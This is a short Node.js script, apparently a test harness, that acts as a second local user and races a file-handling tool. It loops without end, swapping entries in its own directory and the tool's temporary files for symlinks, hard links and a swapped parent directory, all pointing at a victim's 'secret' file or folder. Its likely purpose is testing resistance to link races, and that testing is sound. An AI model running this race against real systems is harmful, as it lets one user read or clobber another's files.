// Run as another user: swaps what is in a directory of its own for links to what is not its own, as fast as it can.
// Usage: node attacker.mjs HOME VICTIM NAME...
import {
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'

const [home = '', victim = '', ...names] = process.argv.slice(2)
const attempt = action => {
  try {
    action()
  } catch {}
}
let round = 0
for (;;) {
  round += 1
  for (const name of names) {
    const path = join(home, name)
    const other = join(home, `.swap-${round % 7}`)
    attempt(() => rmSync(other, { recursive: true, force: true }))
    // A link to the file, to the directory that it is in, a file of its own, and nothing.
    if (round % 4 === 0) attempt(() => symlinkSync(join(victim, 'secret'), other))
    if (round % 4 === 1) attempt(() => symlinkSync(victim, other))
    if (round % 4 === 2) attempt(() => writeFileSync(other, 'own'))
    if (round % 4 === 3) attempt(() => linkSync(join(victim, 'secret'), other))
    if (round % 3 === 0) attempt(() => rmSync(path, { recursive: true, force: true }))
    attempt(() => renameSync(other, path))
  }
  // A parent directory, swapped for the victim and back.
  const deep = join(home, 'deep')
  attempt(() => renameSync(deep, join(home, '.deep')))
  attempt(() => symlinkSync(victim, deep))
  attempt(() => rmSync(deep))
  attempt(() => renameSync(join(home, '.deep'), deep))
  attempt(() => mkdirSync(deep))
  // Whatever temporary thing has come up meanwhile.
  for (const found of readdirSync(home)) {
    if (!found.startsWith('.drover') && !found.includes('~')) continue
    const path = join(home, found)
    attempt(() => {
      if (lstatSync(path).isDirectory()) renameSync(path, join(home, `.taken-${round}`))
      else rmSync(path)
      symlinkSync(round % 2 ? join(victim, 'secret') : victim, path)
    })
  }
}
